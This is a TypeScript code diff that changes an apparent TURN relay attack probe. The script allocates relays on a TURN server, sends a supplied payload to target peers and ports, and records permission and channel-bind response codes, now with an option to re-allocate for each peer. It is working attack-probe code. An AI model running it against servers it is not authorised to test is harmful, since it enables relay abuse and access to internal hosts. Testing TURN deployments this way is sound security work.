@@ -9,6 +9,8 @@ export interface AttackOrder {
   readonly server: { readonly address: string; readonly port: number };
   readonly transport: Transport;
   readonly credential: TurnCredential;
+  /** For each peer another allocation: once the kernel has refused to send, coturn sends nothing more for that one. */
+  readonly allocatesAnew?: boolean;
   readonly peers: readonly string[];
   readonly ports: readonly number[];
   /** What is sent, in base64. */
@@ -32,34 +34,27 @@ export interface PeerReport {
 
 const FIRST_CHANNEL = 0x4000;
 const TCP = 6;
+let channel = FIRST_CHANNEL;
 
-const { server, transport, credential, peers, ports, data }: AttackOrder = JSON.parse(process.argv[2] ?? '');
-const payload = Buffer.from(data, 'base64');
-const open = () => createTurnClient({ server, transport, credential });
+const order: AttackOrder = JSON.parse(process.argv[2] ?? '');
+const payload = Buffer.from(order.data, 'base64');
+const open = () => createTurnClient(order);
 
 const overTcp = open();
 const { code: allocateTcp } = await overTcp.allocate({ transport: TCP });
 await overTcp.close();
 
-const client = open();
+let client = open();
 const allocation = await client.allocate();
-const sendToAll = (address: string) => {
-  for (const port of ports) client.send({ address, port }, payload);
-};
-
-for (const peer of peers) sendToAll(peer);
+for (const peer of order.peers) sendToAll(peer);
 const reports: Record<string, PeerReport> = {};
-let channel = FIRST_CHANNEL;
-for (const peer of peers) {
-  const { code: createPermission } = await client.createPermission(peer);
-  sendToAll(peer);
-  let channelBind: number | null = null;
-  for (const port of ports) {
-    ({ code: channelBind } = await client.bindChannel(channel, { address: peer, port }));
-    client.sendOnChannel(channel++, payload);
+for (const peer of order.peers) {
+  if (order.allocatesAnew) {
+    await client.close();
+    client = open();
+    await client.allocate();
   }
-  sendToAll(peer);
-  reports[peer] = { createPermission, channelBind };
+  reports[peer] = await tryAll(peer);
 }
 const ownRelay = allocation.relayed && (await client.createPermission(allocation.relayed.address));
 const report: AttackReport = {
@@ -70,3 +65,19 @@ const report: AttackReport = {
 };
 process.stdout.write(`${JSON.stringify(report)}\n`);
 await client.close();
+
+async function tryAll(peer: string): Promise<PeerReport> {
+  sendToAll(peer);
+  const { code: createPermission } = await client.createPermission(peer);
+  sendToAll(peer);
+  let channelBind: number | null = null;
+  for (const port of order.ports) {
+    ({ code: channelBind } = await client.bindChannel(channel, { address: peer, port }));
+    client.sendOnChannel(channel++, payload);
+  }
+  return { createPermission, channelBind };
+}
+
+function sendToAll(address: string): void {
+  for (const port of order.ports) client.send({ address, port }, payload);
+}
